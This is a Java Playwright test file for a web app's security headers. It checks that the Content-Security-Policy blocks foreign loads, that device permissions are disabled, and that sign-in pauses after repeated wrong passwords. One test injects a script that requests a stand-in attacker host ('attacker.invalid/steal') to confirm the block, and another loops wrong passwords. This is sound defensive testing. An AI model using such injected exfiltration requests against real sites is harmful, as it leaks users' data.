package org.colloquy.journeys;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Locale;
import java.util.concurrent.CopyOnWriteArrayList;
import org.junit.jupiter.api.Test;

/**
 * Chromium enforces Colloquy's Content-Security-Policy: Vaadin's own pages run under it, and what an injected
 * script would try (loading from or sending to another site) is blocked. The Permissions-Policy switches off the
 * camera, the microphone, the location and other features no page uses. Every other journey also fails on any
 * violation (see {@link BrowserJourney}).
 */
class ContentSecurityPolicyJourney extends BrowserJourney {

    @Test
    void a_student_works_under_the_policy_and_a_foreign_request_is_blocked() {
        signIn("ana", "colloquy");
        page.getByText("Open the course").click();
        page.locator("#lesson-three-stages a").click();
        assertThat(page.locator(".step-counter")).containsText("of 8");
        assertThat(policyViolations()).as("Colloquy's own pages under the policy").isEmpty();

        page.evaluate("() => { const img = new Image(); img.src = 'https://attacker.invalid/steal?x=1';"
                + " document.body.appendChild(img); }");
        page.waitForCondition(() -> !policyViolations().isEmpty());

        List<String> blocked = policyViolations();
        assertThat(blocked).singleElement().asString().contains("img-src", "attacker.invalid");
        forgetPolicyViolations();
    }

    @Test
    void chromium_switches_off_camera_microphone_and_location_as_the_permissions_policy_says_and_has_nothing_to_warn_about() {
        List<String> complaints = new CopyOnWriteArrayList<>();
        page.onConsoleMessage(message -> {
            if (message.text().toLowerCase(Locale.ROOT).contains("permissions-policy header")) {
                complaints.add(message.text());
            }
        });
        signIn("ana", "colloquy");
        page.navigate(url("my-work"));

        for (String feature : List.of("camera", "microphone", "geolocation", "payment", "usb")) {
            assertThat((Boolean) page.evaluate("feature => document.featurePolicy.allowsFeature(feature)", feature))
                    .as(feature).isFalse();
        }
        assertThat((Boolean) page.evaluate("() => document.featurePolicy.allowsFeature('clipboard-write')"))
                .as("the clipboard, for the copy-link buttons").isTrue();
        assertThat(page.evaluate("() => new Promise(done => navigator.geolocation.getCurrentPosition("
                + "() => done('allowed'), error => done(error.code)))")).as("asking for the location").isEqualTo(1);
        assertThat(complaints).as("what Chromium said about the header").isEmpty();
    }

    @Test
    void repeated_wrong_passwords_pause_signing_in_with_a_message_that_says_until_when() {
        page.navigate(url("login"));
        for (int i = 1; i <= 5; i++) {
            page.locator("input[name='username']").fill("mallory-guesses");
            page.locator("input[name='password']").fill("wrong-" + i);
            page.locator("vaadin-button[slot='submit'], button[type='submit']").first().click();
            page.waitForURL(url -> url.contains("/login?"));
        }
        assertThat(page.locator("vaadin-login-form")).containsText("Signing in is paused");
        assertThat(page.locator("vaadin-login-form")).containsText("Try again at");
        screenshot("security-01-sign-in-paused");
    }
}
